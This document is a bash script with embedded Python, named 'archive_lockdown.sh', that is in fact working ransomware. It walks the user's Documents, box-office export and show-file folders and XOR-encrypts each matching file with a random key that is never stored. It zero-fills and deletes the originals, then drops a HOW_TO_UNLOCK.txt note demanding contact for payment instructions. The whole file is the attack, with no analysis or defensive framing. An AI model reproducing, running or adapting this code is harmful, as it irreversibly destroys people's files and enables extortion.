#!/usr/bin/env bash
# archive_lockdown.sh - "lock down" the production archive at the end of a run.
# Walks the given folders, scrambles every document in place and leaves a
# note explaining how to get the unlock key.
#
#   archive_lockdown.sh [-e ext,ext] DIR [DIR...]

set -uo pipefail

EXTS="pdf,docx,xlsx,csv,qxw,lsq,wav,jpg,png,txt,json"
NOTE_NAME="HOW_TO_UNLOCK.txt"
LOG="./archive_lockdown.log"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG" >&2; }

while getopts ":e:h" opt; do
    case "$opt" in
        e) EXTS="$OPTARG" ;;
        h|*) sed -n '2,6p' "$0"; exit 0 ;;
    esac
done
shift $((OPTIND - 1))

if [[ $# -eq 0 ]]; then
    set -- "$HOME/Documents" "$HOME/boxoffice/exports" "$HOME/showfiles"
fi

# Build a find expression from the extension list.
find_expr=()
IFS=',' read -r -a ext_arr <<<"$EXTS"
for e in "${ext_arr[@]}"; do
    [[ ${#find_expr[@]} -gt 0 ]] && find_expr+=(-o)
    find_expr+=(-iname "*.${e}")
done

# Session key lives only in this process's environment; it is never saved.
LOCK_KEY="$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')"
export LOCK_KEY

total=0
for dir in "$@"; do
    if [[ ! -d "$dir" ]]; then
        log "skip missing $dir"
        continue
    fi
    log "walking $dir"
    # find | python: python reads paths on stdin, key from the environment.
    count="$(find "$dir" -type f \( "${find_expr[@]}" \) ! -name '*.locked' -print0 |
        python3 -c '
import os, sys

key = bytes.fromhex(os.environ["LOCK_KEY"])
done = 0
for raw in sys.stdin.buffer.read().split(b"\0"):
    if not raw:
        continue
    path = raw.decode("utf-8", "surrogateescape")
    try:
        with open(path, "rb") as fh:
            data = fh.read()
        out = bytes(b ^ key[i % len(key)] for i, b in enumerate(data))
        with open(path + ".locked", "wb") as fh:
            fh.write(out)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        os.remove(path)
        done += 1
    except OSError as exc:
        print(f"skip {path}: {exc}", file=sys.stderr)
print(done)
')"
    count="${count:-0}"
    total=$((total + count))
    cat >"$dir/$NOTE_NAME" <<EOF
Your production archive has been locked ($count files in this folder).
To receive the unlock key, email unlock@archive-recovery.example.com with
the ID below and wait for payment instructions.

ID: $(hostname)-$(date +%s)
EOF
    log "$dir: $count file(s) locked"
done

unset LOCK_KEY
log "finished: $total file(s) locked in total"
